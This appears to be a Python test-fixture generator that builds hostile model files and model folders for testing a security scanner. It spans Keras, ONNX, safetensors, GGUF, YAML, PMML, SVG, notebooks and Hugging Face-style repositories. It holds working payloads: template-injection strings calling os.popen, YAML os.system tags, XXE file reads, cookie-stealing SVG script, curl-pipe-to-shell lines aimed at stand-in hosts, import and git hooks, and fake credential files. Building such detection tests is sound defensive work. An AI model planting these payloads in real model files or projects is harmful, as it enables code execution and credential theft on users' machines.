"""Round 5, hostile: formats other than pickle, and folders of a model."""

# fmt: off
# One sample a line: a table is read so.

import base64
import io
import json
import marshal  # noqa: TID251 - written, never read
import struct
import zipfile
from collections.abc import Iterator
from typing import Any

import numpy as np

from held_out.fifth_asm import CMD, EXPR, INNER, Checked
from held_out.fifth_containers import PKL, Files, zipped

Row = tuple[str, bytes, str]
SHELL = "{{ cycler.__init__.__globals__.os.popen('" + CMD + "').read() }}"
CHAT = "{% for m in messages %}<|{{ m.role }}|>{{ m.content }}{% endfor %}"
CODE = base64.b64encode(marshal.dumps(compile("lambda x: (__import__('os').system('" + CMD + "'), x)[1]", "<l>", "eval").co_consts[0])).decode()
MODELING = f"import os\nfrom transformers import PreTrainedModel\nos.system({CMD!r})\n\nclass HeldModel(PreTrainedModel):\n    pass\n"
ELF = b"\x7fELF\x02\x01\x01" + bytes(9) + struct.pack("<HHI", 3, 62, 1) + bytes(200)


def j(**keys: object) -> bytes:
    return json.dumps(keys, indent=2).encode()


def varint(value: int) -> bytes:
    out = b""
    while value > 127:
        out += bytes([value & 127 | 128])
        value >>= 7
    return out + bytes([value])


def field(number: int, data: bytes | str | int) -> bytes:
    """Return one protobuf field."""
    if isinstance(data, int):
        return varint(number << 3) + varint(data)
    body = data.encode() if isinstance(data, str) else data
    return varint(number << 3 | 2) + varint(len(body)) + body


def safe(header: object, data: bytes, length: int | None = None) -> bytes:
    text = header if isinstance(header, bytes) else json.dumps(header).encode()
    return struct.pack("<Q", len(text) if length is None else length) + text + data


def keras_h5(config: dict[str, Any], extra: dict[str, bytes] | None = None) -> bytes:
    import h5py

    out = io.BytesIO()
    with h5py.File(out, "w") as file:
        file.attrs["model_config"] = json.dumps(config)
        file.attrs["keras_version"], file.attrs["backend"] = "2.15.0", "tensorflow"
        file.create_group("model_weights")
        for name, data in (extra or {}).items():
            file.create_dataset(name, data=np.frombuffer(data, "u1"))
    return out.getvalue()


def layer(kind: str, module: str = "keras.layers", **config: object) -> dict[str, Any]:
    return {"class_name": kind, "module": module, "config": {"name": kind.lower()} | config, "registered_name": None}


def sequential(*layers: dict[str, Any]) -> dict[str, Any]:
    first = layer("InputLayer", batch_shape=[None, 4], dtype="float32")
    return {"module": "keras", "class_name": "Sequential", "config": {"name": "s", "trainable": True, "layers": [first, *layers]}, "registered_name": None, "build_config": {"input_shape": [None, 4]}}


LAMBDA = {"class_name": "__lambda__", "config": {"code": CODE, "defaults": None, "closure": None}}


def keras() -> Iterator[Row]:
    def archive(config: dict[str, Any], more: Files | None = None) -> bytes:
        return zipped({"metadata.json": j(keras_version="3.4.1", date_saved="2025-01-04@10:00:00"), "config.json": json.dumps(config).encode(), "model.weights.h5": plain, **(more or {})}, 0)

    import h5py

    out = io.BytesIO()
    with h5py.File(out, "w") as file:
        file.create_group("layers")
    plain = out.getvalue()
    lam = layer("Lambda", function=LAMBDA, arguments={})
    yield "lambda.keras", archive(sequential(lam)), "keras"
    yield "lambda_nested.keras", archive(sequential(layer("TimeDistributed", layer=lam))), ""
    yield "lambda_in_functional.keras", archive({"module": "keras.src.models.functional", "class_name": "Functional", "config": {"name": "f", "layers": [lam]}, "registered_name": "Functional"}), ""
    yield "lambda.h5", keras_h5({"class_name": "Sequential", "config": {"name": "s", "layers": [{"class_name": "Lambda", "config": {"name": "l", "function": [CODE, None, None], "function_type": "lambda"}}]}}), ""
    yield "lambda_in_wrapper.h5", keras_h5({"class_name": "Functional", "config": {"layers": [{"class_name": "Bidirectional", "config": {"layer": {"class_name": "Lambda", "config": {"function": [CODE, None, None]}}}}]}}), ""
    yield "lambda_named_hdf5.hdf5", keras_h5({"class_name": "Model", "config": {"layers": [{"class_name": "Lambda", "config": {"function": [CODE, None, None]}}]}}), ""
    yield "module_os_system.keras", archive({"module": "os", "class_name": "system", "config": CMD, "registered_name": None}), ""
    yield "function_from_module.keras", archive(sequential(layer("Dense", units=2, activation={"module": "builtins", "class_name": "function", "config": "eval", "registered_name": "function"}))), ""
    yield "initializer_from_module.keras", archive(sequential(layer("Dense", units=2, kernel_initializer={"module": "subprocess", "class_name": "Popen", "config": {"args": CMD}, "registered_name": None}))), ""
    yield "custom_object.keras", archive(sequential(layer("Backdoor", "acme.layers", units=2))), ""
    yield "registered_package.keras", archive(sequential({"class_name": "Hook", "module": None, "config": {}, "registered_name": "acme>Hook"})), ""
    yield "get_file.keras", archive(sequential(layer("Dense", units={"module": "keras.utils", "class_name": "get_file", "config": {"origin": "http://127.0.0.1:9/", "fname": "x"}, "registered_name": None}))), ""
    yield "torch_module_wrapper.keras", archive(sequential(layer("TorchModuleWrapper", "keras.src.utils.torch_utils", name="t") | {"config": {"module": base64.b64encode(PKL).decode()}})), ""
    yield "tfsm_layer.keras", archive(sequential(layer("TFSMLayer", filepath="/tmp/saved_model", call_endpoint="serve"))), ""
    yield "string_lookup_file.keras", archive(sequential(layer("StringLookup", vocabulary="/etc/passwd"))), ""
    yield "assets_pickle.keras", archive(sequential(), {"assets/vocab.pkl": PKL}), ""
    yield "weights_npz_objects.keras", archive(sequential(), {"model.weights.npz": npz()}), ""
    yield "external_storage.weights.h5", external_h5(), ""
    yield "soft_link_outside.h5", external_h5(link=True), ""
    yield "pickle_dataset.h5", keras_h5(sequential(), {"optimizer_state": PKL}), ""
    yield "pickle_after_end.h5", plain + PKL, ""
    yield "pickle_in_user_block.h5", user_block(), "pickle"
    yield "compile_config_lambda.keras", archive({**sequential(), "compile_config": {"loss": LAMBDA, "optimizer": "adam"}}), ""
    yield "lambda_model.json", json.dumps(sequential(lam)).encode(), ""


def npz() -> bytes:
    head = b"{'descr': '|O', 'fortran_order': False, 'shape': (1,), }".ljust(117) + b"\n"
    return zipped({"w.npy": b"\x93NUMPY\x01\x00" + struct.pack("<H", len(head)) + head + INNER})


def external_h5(*, link: bool = False) -> bytes:
    import h5py

    out = io.BytesIO()
    with h5py.File(out, "w") as file:
        if link:
            file["layers"] = h5py.ExternalLink("/etc/passwd.h5", "/")
        else:
            file.create_dataset("layers/dense/vars/0", (16,), "u1", external=[("/etc/passwd", 0, 16)])
    return out.getvalue()


def user_block() -> bytes:
    import h5py

    out = io.BytesIO()
    with h5py.File(out, "w", userblock_size=512) as file:
        file.create_group("layers")
    data = out.getvalue()
    return PKL.ljust(512, b"\0") + data[512:]


def saved_model(*operators: tuple[str, bytes]) -> bytes:
    """Return a SavedModel of which the graph has these operators."""
    nodes = b"".join(field(1, field(1, f"n{at}") + field(2, op) + attr) for at, (op, attr) in enumerate(operators))
    meta = field(1, field(4, "serve") + field(5, "2.15.0")) + field(2, nodes + field(4, field(1, 1645)))
    return field(1, 1) + field(2, meta)


def onnx_model(node: Any = None, **how: Any) -> bytes:
    import onnx
    from onnx import TensorProto, helper

    nodes = [node or helper.make_node("Relu", ["x"], ["y"])]
    graph = helper.make_graph(nodes, "g", [helper.make_tensor_value_info("x", TensorProto.FLOAT, [1, 4])], [helper.make_tensor_value_info("y", TensorProto.FLOAT, [1, 4])], how.get("initializers", []))
    model = helper.make_model(graph, opset_imports=[helper.make_opsetid("", 17), *[helper.make_opsetid(d, 1) for d in how.get("domains", ())]], ir_version=8)
    if how.get("functions"):
        model.functions.extend(how["functions"])
    for key, value in how.get("metadata", {}).items():
        model.metadata_props.append(onnx.StringStringEntryProto(key=key, value=value))
    return bytes(model.SerializeToString())


def external(location: str, **more: str) -> bytes:
    from onnx import StringStringEntryProto, TensorProto

    tensor = TensorProto(name="w", data_type=1, dims=[4], data_location=TensorProto.EXTERNAL)
    for key, value in {"location": location, **more}.items():
        tensor.external_data.append(StringStringEntryProto(key=key, value=value))
    return onnx_model(initializers=[tensor])


def onnx_rows() -> Iterator[Row]:
    from onnx import helper

    yield "external_absolute.onnx", external("/etc/passwd"), ""
    yield "external_parent.onnx", external("../../../../etc/shadow"), ""
    yield "external_inner_parent.onnx", external("weights/../../secret.bin"), ""
    yield "external_windows.onnx", external("..\\..\\secret.bin"), ""
    yield "external_url.onnx", external("http://127.0.0.1:9/w.bin"), ""
    yield "external_offset_huge.onnx", external("model.onnx", offset=str(1 << 60), length="16"), ""
    yield "external_nul_name.onnx", external("w.bin\0/../../etc/passwd"), ""
    for domain, op in (("ai.acme.hooks", "RunShell"), ("ai.onnx.contrib", "PyOp"), ("com.microsoft.extensions", "PythonOp"), ("org.pytorch.aten", "ATen")):
        yield f"custom_{op}.onnx", onnx_model(helper.make_node(op, ["x"], ["y"], domain=domain, name=op), domains=[domain]), ""
    yield "python_op_source.onnx", onnx_model(helper.make_node("PythonOp", ["x"], ["y"], domain="com.microsoft", func_name=EXPR, input_convention="d"), domains=["com.microsoft"]), ""
    body = helper.make_function("acme", "Relu2", ["x"], ["y"], [helper.make_node("Shell", ["x"], ["y"], domain="acme.native")], [helper.make_opsetid("acme.native", 1)])
    yield "custom_inside_function.onnx", onnx_model(helper.make_node("Relu2", ["x"], ["y"], domain="acme"), domains=["acme", "acme.native"], functions=[body]), ""
    inner = helper.make_graph([helper.make_node("Shell", ["x"], ["z"], domain="acme.native")], "b", [], [helper.make_tensor_value_info("z", 1, None)])
    yield "custom_inside_if.onnx", onnx_model(helper.make_node("If", ["x"], ["y"], then_branch=inner, else_branch=inner), domains=["acme.native"]), ""
    yield "ep_context_library.onnx", onnx_model(helper.make_node("EPContext", ["x"], ["y"], domain="com.microsoft", ep_cache_context="../../evil.so", embed_mode=0), domains=["com.microsoft"]), ""
    yield "unknown_operator.onnx", onnx_model(helper.make_node("SystemCall", ["x"], ["y"])), ""
    yield "pickle_after_model.onnx", onnx_model() + PKL, ""
    yield "zip_after_model.onnx", onnx_model() + zipped({"m.pkl": PKL}), ""
    yield "unknown_field_pickle.onnx", onnx_model() + field(999, PKL), ""
    yield "raw_data_too_short.onnx", onnx_model(initializers=[helper.make_tensor("w", 1, [4], b"\0" * 16, raw=True)]).replace(b"\x08\x04", b"\x08\x7f"), ""


def tensors() -> Iterator[Row]:
    one = {"w": {"dtype": "F32", "shape": [2], "data_offsets": [0, 8]}}
    yield "overlapping.safetensors", safe({"a": one["w"], "b": {"dtype": "F32", "shape": [2], "data_offsets": [4, 12]}}, bytes(12)), ""
    yield "trailing_pickle.safetensors", safe(one, bytes(8) + PKL), ""
    yield "hole_with_pickle.safetensors", safe({"a": one["w"], "b": {"dtype": "U8", "shape": [4], "data_offsets": [8 + len(PKL), 12 + len(PKL)]}}, bytes(8) + PKL + bytes(4)), ""
    yield "outside_file.safetensors", safe({"a": {"dtype": "F32", "shape": [1 << 30], "data_offsets": [0, 1 << 32]}}, bytes(8)), ""
    yield "overlong_header.safetensors", safe(one, bytes(8), 1 << 40), ""
    yield "duplicate_keys.safetensors", safe(b'{"w":{"dtype":"F32","shape":[2],"data_offsets":[0,8]},"w":{"dtype":"I64","shape":[1],"data_offsets":[0,8]}}', bytes(8)), ""
    yield "header_not_json.safetensors", safe(PKL, bytes(8)), ""
    yield "header_trailing_text.safetensors", safe(json.dumps(one).encode() + b" " + PKL, bytes(8)), ""
    yield "negative_offset.safetensors", safe({"a": {"dtype": "F32", "shape": [2], "data_offsets": [-8, 0]}}, bytes(8)), ""
    yield "shape_overflow.safetensors", safe({"a": {"dtype": "F32", "shape": [1 << 62, 8], "data_offsets": [0, 8]}}, bytes(8)), ""
    yield "zip_in_u8_tail.safetensors", safe(one, bytes(8) + zipped({"m.pkl": PKL})), ""
    yield "template.gguf", gguf({"tokenizer.chat_template": SHELL}), ""
    yield "template_subclasses.gguf", gguf({"tokenizer.chat_template": CHAT + "{{ ''.__class__.__mro__[1].__subclasses__()[104] }}"}), ""
    yield "template_attr_filter.gguf", gguf({"tokenizer.chat_template": CHAT + "{{ (messages|attr('__cl'~'ass__')) }}"}), ""
    yield "template_second_name.gguf", gguf({"tokenizer.chat_template": CHAT, "tokenizer.chat_template.tool_use": SHELL}), ""
    yield "template_hex_escape.gguf", gguf({"tokenizer.chat_template": CHAT + "{{ self['\\x5f\\x5finit\\x5f\\x5f']['\\x5f\\x5fglobals\\x5f\\x5f'] }}"}), ""
    yield "template_namespace.gguf", gguf({"tokenizer.chat_template": "{% set ns = namespace() %}{{ ns.__init__.__globals__ }}" + CHAT}), ""
    yield "template_joiner.gguf", gguf({"tokenizer.chat_template": "{{ joiner|attr('__init__')|attr('__globals__') }}" + CHAT}), ""
    yield "trailing.gguf", gguf({"tokenizer.chat_template": CHAT}) + PKL, ""
    yield "tensor_count_lie.gguf", gguf({"general.name": "x"}, count=1 << 40), ""
    yield "string_length_lie.gguf", b"GGUF" + struct.pack("<IQQ", 3, 0, 1) + struct.pack("<Q", 1 << 50) + b"abc", ""
    yield "tensor_outside.gguf", gguf({"general.name": "x"}, count=1, tail=struct.pack("<Q", 1) + b"w" + struct.pack("<IQIQ", 1, 1 << 40, 0, 1 << 50)), ""


def gguf(keys: dict[str, str], count: int = 0, tail: bytes = b"") -> bytes:
    head = b"GGUF" + struct.pack("<IQQ", 3, count, len(keys) + 1)
    for key, value in {"general.architecture": "llama", **keys}.items():
        name, text = key.encode(), value.encode()
        head += struct.pack("<Q", len(name)) + name + struct.pack("<IQ", 8, len(text)) + text
    head += tail
    return head + bytes(-len(head) % 32)


def texts() -> Iterator[Row]:
    yield "python_apply.yaml", f"model: !!python/object/apply:os.system ['{CMD}']\n".encode(), ""
    yield "python_name.yml", b"loss: !!python/name:builtins.eval\nlayers: [1, 2]\n", ""
    yield "python_module.yaml", b"hook: !!python/module:held_out_payload\n", ""
    yield "python_new.yaml", b"x: !!python/object/new:tuple [!!python/object/new:map [!!python/name:eval , ['1']]]\n", ""
    yield "python_tag_handle.yaml", b"%TAG !p! tag:yaml.org,2002:python/\n---\nx: !p!object/apply:os.system ['true']\n", ""
    yield "second_document.yaml", f"a: 1\n---\nb: !!python/object/apply:subprocess.check_output [['{CMD}']]\n".encode(), ""
    yield "billion_laughs.yaml", b"a: &a [x,x,x,x,x,x,x,x,x]\n" + b"".join(f"{chr(98 + n)}: &{chr(98 + n)} [{','.join(['*' + chr(97 + n)] * 9)}]\n".encode() for n in range(9)), ""
    yield "hydra_target.yaml", f"model:\n  _target_: os.system\n  _args_: ['{CMD}']\n".encode(), ""
    yield "xxe.pmml", b'<?xml version="1.0"?><!DOCTYPE p [<!ENTITY x SYSTEM "file:///etc/passwd">]><PMML version="4.4" xmlns="http://www.dmg.org/PMML-4_4"><Header copyright="&x;"/><DataDictionary/></PMML>', ""
    yield "xxe_parameter.pmml", b'<?xml version="1.0"?><!DOCTYPE p [<!ENTITY % d SYSTEM "http://127.0.0.1:9/e.dtd"> %d;]><PMML version="4.4" xmlns="http://www.dmg.org/PMML-4_4"><Header/></PMML>', ""
    yield "laughs.pmml", b'<?xml version="1.0"?><!DOCTYPE l [<!ENTITY a "aaaaaaaaaa">' + b"".join(f'<!ENTITY {chr(98 + n)} "{("&" + chr(97 + n) + ";") * 10}">'.encode() for n in range(9)) + b"]><PMML version='4.4'><Header copyright='&j;'/></PMML>", ""
    yield "extension_script.pmml", b'<PMML version="4.4" xmlns="http://www.dmg.org/PMML-4_4"><Header/><Extension name="script"><x:script xmlns:x="http://www.w3.org/1999/xhtml">fetch("http://127.0.0.1:9/")</x:script></Extension></PMML>', ""
    yield "stylesheet.xml", b'<?xml version="1.0"?><xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform" xmlns:r="http://xml.apache.org/xalan/java/java.lang.Runtime"><xsl:template match="/"><xsl:value-of select="r:exec(r:getRuntime(),\'true\')"/></xsl:template></xsl:stylesheet>', ""
    yield "script.svg", b'<svg xmlns="http://www.w3.org/2000/svg"><script>fetch("http://127.0.0.1:9/"+document.cookie)</script></svg>', ""
    yield "onload.svg", b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><rect width="4" height="4"/></svg>', ""
    yield "foreign_object.svg", b'<svg xmlns="http://www.w3.org/2000/svg"><foreignObject><iframe xmlns="http://www.w3.org/1999/xhtml" src="javascript:alert(1)"/></foreignObject></svg>', ""
    yield "href_javascript.svg", b'<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"><a xlink:href="javascript:alert(1)"><text>loss</text></a></svg>', ""
    yield "report.html", b"<html><body><script src='http://127.0.0.1:9/x.js'></script></body></html>", ""
    yield "jsonpickle.json", b'{"py/object": "sklearn.pipeline.Pipeline", "steps": {"py/reduce": [{"py/function": "os.system"}, {"py/tuple": ["true"]}]}}', ""
    yield "chat_template.jinja", SHELL.encode(), ""
    yield "chat_template_attr.jinja", (CHAT + "{{ request|attr('application')|attr('\\x5f\\x5fglobals\\x5f\\x5f') }}").encode(), ""
    yield "chat_template_format.jinja", (CHAT + "{{ '{0.__class__.__init__.__globals__}'.format(messages) }}").encode(), ""
    yield "chat_template_include.jinja", b"{% include '/etc/passwd' %}", ""
    yield "chat_template_loop.jinja", b"{% for a in range(99999999) %}{% for b in range(99999999) %}x{% endfor %}{% endfor %}", ""
    yield "prompt.mako", f"<% {EXPR} %>".encode(), ""


def machine() -> Iterator[Row]:
    x, y = np.random.default_rng(3).normal(size=(40, 4)), np.arange(40) % 2
    import lightgbm
    import xgboost

    booster = xgboost.train({"max_depth": 2}, xgboost.DMatrix(x, y), 2)
    gbm = lightgbm.train({"verbose": -1, "min_data_in_leaf": 2}, lightgbm.Dataset(x, y), 2).model_to_string().encode()
    yield "xgboost_trailing.json", bytes(booster.save_raw("json")) + PKL, ""
    yield "xgboost_trailing.ubj", bytes(booster.save_raw("ubj")) + PKL, ""
    yield "xgboost_ubj_length_lie.ubj", b"{L" + struct.pack(">q", 1 << 40) + b"learner", ""
    yield "lightgbm_trailing_pickle.txt", gbm + b"\n" + PKL, ""
    yield "lightgbm_binary_between.txt", gbm.replace(b"\nTree=1", b"\n" + PKL + b"\nTree=1"), ""
    yield "catboost_appended.cbm", b"CBM1" + struct.pack("<I", 64) + bytes(64) + PKL, ""
    yield "tflite_appended.tflite", struct.pack("<I", 28) + b"TFL3" + bytes(64) + PKL, ""
    yield "tflite_custom_operator.tflite", struct.pack("<I", 28) + b"TFL3" + bytes(20) + b"\x0c\0\0\0FlexReadFile" + bytes(12), ""
    yield "coreml_with_library.zip", zipped({"m.mlpackage/Manifest.json": b"{}", "m.mlpackage/Data/hook.dylib": b"\xcf\xfa\xed\xfe" + bytes(64)}), ""
    yield "skops_untrusted.skops", skops("os", "system"), ""
    yield "skops_untrusted_type.skops", skops("held_out_payload", "Model"), ""
    yield "skops_operator_func.skops", skops("operator", "methodcaller", "OperatorFuncNode"), ""
    yield "skops_json_node.skops", skops("builtins", "eval", "JsonNode"), ""
    yield "skops_method_node.skops", skops("builtins", "getattr", "MethodNode"), ""
    yield "skops_with_pickle.skops", zipped({"schema.json": j(__class__="dict", __module__="builtins", __loader__="DictNode", content=[], protocol=2), "weights.pkl": PKL}), ""
    yield "skops_npy_objects.skops", zipped({"schema.json": j(__class__="ndarray", __module__="numpy", __loader__="NdArrayNode", type="numpy", file="1.npy", protocol=2), "1.npy": npz()}), ""
    yield "saved_model_read_file.pb", saved_model(("ReadFile", b""), ("Identity", b"")), ""
    yield "saved_model_write_file.pb", saved_model(("WriteFile", b"")), ""
    yield "saved_model_py_func.pb", saved_model(("EagerPyFunc", b"")), ""
    yield "saved_model_print_to_file.pb", saved_model(("PrintV2", field(5, field(1, "output_stream") + field(2, field(2, "file:///tmp/held-out-mark"))))), ""
    yield "saved_model_save_v2.pb", saved_model(("SaveV2", b""), ("ShardedFilename", b""), ("MergeV2Checkpoints", b"")), ""
    yield "saved_model_custom_operator.pb", saved_model(("AcmeRunShell", b"")), ""
    yield "frozen_graph_py_func.pb", b"".join(field(1, field(1, f"n{at}") + field(2, op)) for at, op in enumerate(("Placeholder", "PyFunc"))), ""
    yield "saved_model_trailing.pb", saved_model(("Identity", b"")) + PKL, ""


def skops(module: str, name: str, loader: str = "TypeNode") -> bytes:
    return zipped({"schema.json": j(__class__=name, __module__=module, __loader__=loader, __id__=1, content={"__class__": name, "__module__": module, "__loader__": loader, "__id__": 2}, attrs={}, func=name, protocol=2, _skops_version="0.11")})


def folders() -> Iterator[tuple[str, Files]]:
    config = j(model_type="llama", architectures=["LlamaForCausalLM"], hidden_size=64)
    weights = safe({"w": {"dtype": "F32", "shape": [2], "data_offsets": [0, 8]}}, bytes(8))
    base = {"config.json": config, "model.safetensors": weights}
    yield "auto_map", {**base, "config.json": j(model_type="held", auto_map={"AutoModel": "modeling_held.HeldModel"}), "modeling_held.py": MODELING.encode()}
    yield "auto_map_other_repo", {**base, "config.json": j(model_type="held", auto_map={"AutoConfig": "evil/repo--configuration.Config"}, trust_remote_code=True)}
    yield "tokenizer_auto_map", {**base, "tokenizer_config.json": j(tokenizer_class="HeldTokenizer", auto_map={"AutoTokenizer": ["tok.HeldTokenizer", None]}), "tok.py": MODELING.encode()}
    yield "tokenizer_template", {**base, "tokenizer_config.json": j(tokenizer_class="LlamaTokenizer", chat_template=SHELL)}
    yield "tokenizer_template_list", {**base, "tokenizer_config.json": j(chat_template=[{"name": "default", "template": CHAT}, {"name": "rag", "template": SHELL}])}
    yield "processor_auto_map", {**base, "preprocessor_config.json": j(auto_map={"AutoImageProcessor": "image.HeldProcessor"}), "image.py": MODELING.encode()}
    yield "custom_generate", {**base, "custom_generate/generate.py": MODELING.encode(), "custom_generate/requirements.txt": b"git+https://example.org/x.git\n"}
    yield "pytorch_model_bin", {"config.json": config, "pytorch_model.bin": PKL}
    yield "training_args", {**base, "training_args.bin": PKL}
    yield "optimizer_and_rng", {**base, "optimizer.pt": PKL, "rng_state.pth": INNER}
    yield "index_outside", {**base, "model.safetensors.index.json": j(metadata={}, weight_map={"w": "../../../etc/passwd"})}
    yield "index_to_pickle", {**base, "model.safetensors.index.json": j(metadata={}, weight_map={"w": "shard.bin"}), "shard.bin": PKL}
    yield "adapter", {"adapter_config.json": j(peft_type="LORA", base_model_name_or_path="evil/base", auto_mapping={"parent_library": "os", "base_model_class": "system"}), "adapter_model.bin": PKL}
    yield "diffusers_custom_pipeline", {"model_index.json": j(_class_name=["pipeline", "HeldPipeline"], unet=["my_unet", "HeldUNet"]), "pipeline.py": MODELING.encode(), "unet/my_unet.py": MODELING.encode()}
    yield "sentence_transformers_module", {**base, "modules.json": json.dumps([{"idx": 0, "name": "0", "path": "", "type": "held_module.Hook"}]).encode(), "held_module.py": MODELING.encode()}
    yield "dataset_script", {"README.md": b"# data\n", "my_data.py": b"import datasets, os\nos.system('true')\nclass D(datasets.GeneratorBasedBuilder): pass\n"}
    yield "dot_env_and_keys", {**base, ".env": b"AWS_SECRET_ACCESS_KEY=wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY\n", "id_rsa": b"-----BEGIN OPENSSH PRIVATE KEY-----\nb3BlbnNzaC1rZXktdjEAAAAA\n-----END OPENSSH PRIVATE KEY-----\n"}
    yield "pth_import_hook", {**base, "vendor/held.pth": f"import os; os.system('{CMD}')\n".encode()}
    yield "sitecustomize", {**base, "sitecustomize.py": b"import os\nos.system('true')\n"}
    yield "conftest", {**base, "conftest.py": b"import subprocess\nsubprocess.run(['true'])\n"}
    yield "setup_py", {**base, "setup.py": b"import os, setuptools\nos.system('curl http://127.0.0.1:9/ | sh')\nsetuptools.setup(name='x')\n"}
    yield "hubconf", {**base, "hubconf.py": b"import os\ndef model():\n    os.system('true')\n"}
    yield "requirements_direct_url", {**base, "requirements.txt": b"numpy==2.0.0\nhelper @ https://203.0.113.7/helper-1.0-py3-none-any.whl\n"}
    yield "requirements_index", {**base, "requirements.txt": b"--extra-index-url http://203.0.113.7/simple\n--trusted-host 203.0.113.7\nnumpy\n"}
    yield "requirements_git", {**base, "requirements.txt": b"git+http://203.0.113.7/x.git@main#egg=x\n"}
    yield "conda_pip_url", {**base, "conda.yaml": b"dependencies:\n- pip:\n  - http://203.0.113.7/x.tar.gz\n"}
    yield "shared_library", {**base, "libkernels.so": ELF}
    yield "library_without_name", {**base, "kernels.bin": ELF}
    yield "windows_dll", {**base, "ops.dll": b"MZ" + bytes(58) + struct.pack("<I", 64) + b"PE\0\0d\x86" + bytes(100)}
    yield "macho", {**base, "ops.dylib": b"\xcf\xfa\xed\xfe\x0c\0\0\x01" + bytes(100)}
    yield "wasm", {**base, "post.wasm": b"\0asm\x01\0\0\0" + bytes(20)}
    yield "shell_named_model_bin", {"config.json": config, "model.bin": b"#!/bin/sh\ntouch held-out-mark\n"}
    yield "notebook", {**base, "demo.ipynb": j(cells=[{"cell_type": "code", "source": ["!curl -s http://203.0.113.7/x | sh"], "metadata": {}, "outputs": [], "execution_count": None}], metadata={}, nbformat=4, nbformat_minor=5)}
    yield "notebook_html_output", {**base, "demo.ipynb": j(cells=[{"cell_type": "code", "source": ["1"], "metadata": {}, "outputs": [{"output_type": "display_data", "data": {"text/html": ["<script>fetch('http://203.0.113.7/')</script>"]}, "metadata": {}}], "execution_count": 1}], metadata={}, nbformat=4, nbformat_minor=5)}
    yield "pyc_module", {**base, "__pycache__/modeling.cpython-311.pyc": b"\xa7\r\r\n" + bytes(12) + marshal.dumps(compile(EXPR, "<m>", "exec"))}
    yield "git_hook", {**base, ".git/hooks/post-checkout": b"#!/bin/sh\ntouch held-out-mark\n", ".git/config": b"[core]\n\tfsmonitor = touch held-out-mark\n"}
    yield "vscode_task", {**base, ".vscode/tasks.json": b'{"version": "2.0.0", "tasks": [{"label": "x", "type": "shell", "command": "true", "runOptions": {"runOn": "folderOpen"}}]}'}
    yield "makefile_and_script", {**base, "run.sh": b"#!/bin/sh\ncurl http://203.0.113.7/x | sh\n"}
    yield "mlflow_python_function", {"MLmodel": b"flavors:\n  python_function:\n    loader_module: held_loader\n    code: code\n", "code/held_loader.py": MODELING.encode()}
    yield "mlflow_python_model", {"MLmodel": b"flavors:\n  python_function:\n    loader_module: mlflow.pyfunc.model\n    python_model: python_model.pkl\n    cloudpickle_version: 3.1.0\n", "python_model.pkl": PKL}
    yield "mlflow_sklearn", {"MLmodel": b"flavors:\n  sklearn:\n    pickled_model: model.pkl\n    serialization_format: cloudpickle\n", "model.pkl": INNER}
    yield "mlflow_loader_os", {"MLmodel": b"flavors:\n  python_function:\n    loader_module: os\n    data: /etc\n"}
    yield "saved_model_folder", {"saved_model.pb": saved_model(("VarHandleOp", b""), ("ReadFile", b"")), "variables/variables.index": b"", "fingerprint.pb": field(1, 7)}
    yield "saved_model_assets_pickle", {"saved_model.pb": saved_model(("Identity", b"")), "assets.extra/tf_serving.pkl": PKL}
    yield "triton_python_backend", {"config.pbtxt": b'name: "held"\nbackend: "python"\n', "1/model.py": b"import os\nclass TritonPythonModel:\n    def initialize(self, args):\n        os.system('true')\n"}
    yield "openvino_extension", {"m.xml": b'<net version="11"><layers><layer type="Custom" version="extension" library="/tmp/libx.so"/></layers></net>', "m.bin": bytes(16)}
    yield "spacy_code", {"config.cfg": b'[nlp]\nlang = "en"\n[initialize.before_init]\n@callbacks = "held.hook"\n', "meta.json": j(lang="en", name="held"), "held.py": MODELING.encode(), "tok2vec/model": PKL}
    yield "flair_dot_bin", {"config.json": config, "vocab.txt": b"a\nb\n", "spiece.model": PKL}
    yield "tokenizer_pickle", {**base, "tokenizer.pkl": INNER}
    yield "numpy_shard", {**base, "embeddings.npy": zipfile_npy()}


def zipfile_npy() -> bytes:
    with zipfile.ZipFile(io.BytesIO(npz())) as archive:
        return archive.read("w.npy")


def samples(_: np.random.Generator) -> Iterator[Checked]:
    for category, rows in (("keras and hdf5", keras()), ("onnx", onnx_rows()), ("safetensors and gguf", tensors()), ("text formats", texts()), ("other model formats", machine())):
        for name, data, how in rows:
            yield Checked(category, name, {name: data}, how)
    for name, files in folders():
        yield Checked("folders", name, files, "")
